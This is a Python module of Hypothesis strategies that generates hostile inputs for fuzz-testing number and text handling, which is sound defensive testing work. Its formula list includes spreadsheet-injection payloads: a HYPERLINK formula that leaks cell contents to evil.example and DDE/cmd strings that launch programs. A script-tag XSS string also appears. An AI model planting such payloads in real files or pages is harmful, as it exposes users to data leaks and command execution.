"""Hypothesis strategies for hostile input: numbers that are too big, too small or not numbers,
Unicode, control characters, and spreadsheet formulas."""

from __future__ import annotations

from hypothesis import strategies as st

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click here")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    '=DDE("cmd";"/C calc";"!A0")',
    "\t=1+1",
    "\r=1+1",
]
ODD_NUMBERS = [
    "NaN",
    "nan",
    "-nan",
    "inf",
    "-inf",
    "Infinity",
    "-Infinity",
    "1e400",
    "-1e400",
    "1e-400",
    "1e308",
    "1.7976931348623157e308",
    "4.9e-324",
    "99999999999999999999999999999999",
    "-0",
    "0",
    "00012",
    "1,000",
    "1_000",
    "1e5",
    "+5",
    "-5",
    "5.",
    ".5",
    "0x10",
    "1/2",
    "12%",
    "\u0661\u0662\u0663",  # Arabic-Indic digits
    "\uff11\uff12\uff13",  # full-width digits
    "Ⅻ",
    "  42  ",
    "4 2",
    "3.14159265358979323846264338327950288",
]
ODD_TEXT = [
    "",
    " ",
    "\ufeff",
    "\u202eevil",
    "😀",
    "'",
    '"',
    "a\nb",
    "a\x00b",
    "a,b",
    'a"b',
    "</script><script>alert(1)</script>",
    "<b>bold</b>",
    "Ω" * 300,
    "x" * 5000,
]

# Text that can travel in a form or a UTF-8 file: no lone surrogates.
unicode_text = st.text(alphabet=st.characters(exclude_categories=("Cs",)), max_size=60)

hostile_number = st.one_of(
    st.sampled_from(ODD_NUMBERS),
    st.floats(allow_nan=True, allow_infinity=True).map(repr),
    st.floats(min_value=0, max_value=1e7, allow_nan=False).map(lambda x: f"{x:.6g}"),
    st.integers(min_value=-(10**25), max_value=10**25).map(str),
    st.decimals(allow_nan=True, allow_infinity=True).map(str),
    st.sampled_from(FORMULAS),
    unicode_text,
)

hostile_text = st.one_of(
    st.sampled_from(FORMULAS), st.sampled_from(ODD_TEXT), unicode_text, hostile_number
)
